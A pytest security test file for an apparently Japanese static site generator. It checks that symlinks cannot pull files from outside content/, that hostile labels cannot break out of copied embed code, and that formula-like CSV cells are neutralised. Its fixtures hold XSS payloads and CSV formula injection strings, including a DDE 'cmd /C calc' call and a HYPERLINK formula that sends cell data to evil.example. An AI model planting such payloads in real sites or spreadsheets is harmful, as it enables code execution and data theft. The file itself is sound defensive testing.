"""Hostile content from a pull request: links out of content/, markup in
labels that ends up in copied embed code, formulas in CSV cells."""

from __future__ import annotations

import csv
import html
import io
import os
from html.parser import HTMLParser
from pathlib import Path

import pytest

from kyodo.cli import main
from kyodo.commands.build import build
from kyodo.errors import ContentError
from tests.factory import PNG, case_text, make_content
from tests.html import parse

SECRET = "TOP-SECRET-LOCAL-FILE"


def run_cli(capsys, *argv) -> tuple[int, str]:
    code = main(list(argv))
    out = capsys.readouterr()
    return code, out.out + out.err


# -- symbolic links never lead out of content/ ---------------------------------

@pytest.fixture
def outside(tmp_path) -> Path:
    d = tmp_path / "outside"
    d.mkdir()
    (d / "secret.jpg").write_text(SECRET, encoding="utf-8")
    (d / "secret.md").write_text(case_text(title=SECRET), encoding="utf-8")
    (d / "taxonomy.yml").write_text(f"facets: {{}}  # {SECRET}\n", encoding="utf-8")
    return d


def published(out: Path) -> bool:
    return out.exists() and any(SECRET.encode() in p.read_bytes() for p in out.rglob("*") if p.is_file())


@pytest.mark.parametrize("how", ["front matter", "body"])
@pytest.mark.parametrize("link", ["file", "folder"])
def test_image_link_out_of_content_is_reported_and_never_copied(tmp_path, capsys, outside, how, link):
    content = make_content(tmp_path / "content", {}, images={"ok.png": PNG})
    if link == "file":
        (content / "images" / "x.jpg").symlink_to(outside / "secret.jpg")
        src = "x.jpg"
    else:
        (content / "images" / "sub").symlink_to(outside)
        src = "sub/secret.jpg"
    text = (case_text(image=f"{{src: {src}, alt: 写真}}") if how == "front matter"
            else case_text(body=f"## 写真\n\n![写真]({src})\n"))
    (content / "cases" / "a.md").write_text(text, encoding="utf-8")
    line = next(i for i, t in enumerate(text.split("\n"), 1) if src in t)

    code, out = run_cli(capsys, "check", "--content", str(content))
    assert code == 1
    (problem,) = [t for t in out.splitlines() if t.startswith(str(content / "cases" / "a.md")) or "a.md:" in t]
    assert f"a.md:{line}: image" in problem and "リンク" in problem
    assert SECRET not in out

    site = tmp_path / "site"
    code, out = run_cli(capsys, "build", "--content", str(content), "--out", str(site), "--no-search")
    assert code == 1 and not published(site) and SECRET not in out


def test_content_files_linked_from_outside_are_never_read(tmp_path, capsys, outside):
    content = make_content(tmp_path / "content", {"ok.md": case_text()})
    (content / "cases" / "leak.md").symlink_to(outside / "secret.md")
    (content / "cases" / "more").symlink_to(outside, target_is_directory=True)
    (content / "guideline" / "leak.md").symlink_to(outside / "secret.md")
    code, out = run_cli(capsys, "check", "--content", str(content))
    assert code == 1 and SECRET not in out
    lines = [t for t in out.splitlines() if ": ファイル: " in t]
    assert {Path(t.split(":")[0]).name for t in lines} == {"leak.md", "more"}
    assert all("リンク" in t for t in lines)

    (content / "cases" / "leak.md").unlink()
    (content / "cases" / "more").unlink()
    (content / "guideline" / "leak.md").unlink()
    (content / "taxonomy.yml").unlink()
    (content / "taxonomy.yml").symlink_to(outside / "taxonomy.yml")
    code, out = run_cli(capsys, "check", "--content", str(content))
    assert code == 1 and SECRET not in out and "taxonomy.yml:1: ファイル:" in out


def test_links_inside_content_still_work(tmp_path):
    content = make_content(tmp_path / "content", {}, images={"ok.png": PNG})
    (content / "images" / "same.png").symlink_to("ok.png")
    (content / "cases" / "a.md").write_text(case_text(image="{src: same.png, alt: 写真}"), encoding="utf-8")
    build(content, tmp_path / "site", with_search=False)
    assert (tmp_path / "site/images/same.png").read_bytes() == PNG


# -- a site built from hostile labels -------------------------------------------

HOSTILE_TITLE = '"></iframe><script>alert(1)</script>\'&amp;'
HOSTILE_FACET = '協働の主体" onload="alert(1)//'
HOSTILE_TAXONOMY = f"""\
facets:
  theme:
    label: '{HOSTILE_FACET}'
    terms:
      - slug: f
        label: '=HYPERLINK("https://evil.example/?"&A1,"click")'
      - slug: p
        label: "+cmd|' /C calc'!A0"
      - slug: m
        label: '-2+3'
      - slug: a
        label: '@SUM(1+1)*cmd|'' /C calc''!A0'
      - slug: w
        label: '＝1+1'
  style:
    label: '<img src=x onerror=alert(1)>'
    multiple: false
    terms:
      - slug: t
        label: '" autofocus onfocus="alert(2)'
      - slug: k
        label: ふつう
"""
HOSTILE_SITE = f"""\
title: '{HOSTILE_TITLE.replace("'", "''")}'
organization: '=テスト区'
base_url: https://kyodo.test.example.jp/
stats:
  crosstabs: [theme/style]
"""
HOSTILE_CASES = {
    "a.md": case_text(drop=("partner", "form", "domain", "outcomes", "department"),
                      title="'=1+1'", summary="'@SUM(A1:A9)'", theme="[f, p, m]", style="t",
                      organizations="['-2+3', '+81 3 0000', '\"=x\"']", period="'=TODAY()'",
                      budget=1200000),
    "b.md": case_text(drop=("partner", "form", "domain", "outcomes", "department"),
                      title="ふつうの事例", fiscal_year=2023, theme="[a, w]", style="k"),
}


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    content = make_content(root / "content", HOSTILE_CASES, taxonomy=HOSTILE_TAXONOMY, site=HOSTILE_SITE)
    out = root / "site"
    build(content, out, with_search=False)
    return out


class Elements(HTMLParser):
    """Every start/end tag and text of an HTML fragment, as a browser would see them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.items: list[tuple] = []

    def handle_starttag(self, tag, attrs):
        self.items.append(("start", tag, dict(attrs), len(attrs)))

    def handle_endtag(self, tag):
        self.items.append(("end", tag))

    def handle_data(self, data):
        if data.strip():
            self.items.append(("text", data))

    def handle_comment(self, data):
        self.items.append(("comment", data))


def test_copied_embed_code_is_exactly_an_iframe_and_a_script(hostile_site):
    snippets = 0
    for page in sorted((hostile_site / "stats").rglob("index.html")):
        raw = page.read_text(encoding="utf-8")
        for textarea in parse(page).find_all("textarea"):
            copied = textarea.text()            # what the copy button / a person copies
            assert copied == html.unescape(raw.split(f'id="{textarea.attrs["id"]}"', 1)[1]
                                           .split(">", 1)[1].split("</textarea>", 1)[0])
            parser = Elements()
            parser.feed(copied)
            parser.close()
            items = parser.items
            assert [i[:2] for i in items] == [("start", "iframe"), ("end", "iframe"),
                                              ("start", "script"), ("end", "script")], (page, copied)
            iframe, script = items[0], items[2]
            assert set(iframe[2]) == {"src", "title", "width", "height", "style", "loading"} and iframe[3] == 6
            assert iframe[2]["src"].startswith("https://kyodo.test.example.jp/embed/stats/")
            assert iframe[2]["title"].endswith(f"（{HOSTILE_TITLE}）")
            assert script[2] == {"src": "https://kyodo.test.example.jp/assets/embed.js", "defer": None}
            snippets += 1
    assert snippets >= 3
    # The hostile facet label is in some title, unchanged.
    assert HOSTILE_FACET in (hostile_site / "stats/theme/index.html").read_text(encoding="utf-8").replace("&#34;", '"')


FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def csv_rows(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_every_csv_cell_is_safe_for_spreadsheets(hostile_site):
    files = sorted(hostile_site.rglob("*.csv"))
    assert hostile_site / "data/cases.csv" in files and len(files) > 5
    neutralised = set()
    for path in files:
        for row in csv_rows(path):
            for cell in row:
                assert not cell.lstrip(" \u3000").startswith(FORMULA), (path.name, cell)
                if cell.startswith("'"):
                    neutralised.add(cell[1:])
    # The values are kept, only prefixed; numbers stay plain numbers.
    for value in ("=1+1", "@SUM(A1:A9)", "-2+3", "+81 3 0000", "=TODAY()", "＝1+1",
                  '=HYPERLINK("https://evil.example/?"&A1,"click")'):
        assert any(value in n for n in neutralised), value
    rows = csv_rows(hostile_site / "data/cases.csv")
    header, first = rows[0], rows[1]
    assert first[header.index("予算（円）")] == "1200000"
    assert first[header.index("年度（西暦）")] == "2024"
    for path in files:
        rows = csv_rows(path)
        for col, name in enumerate(rows[0]):
            if "件数" in name and "割合" not in name:
                assert all(r[col].isdigit() for r in rows[1:] if r[col]), (path.name, name)
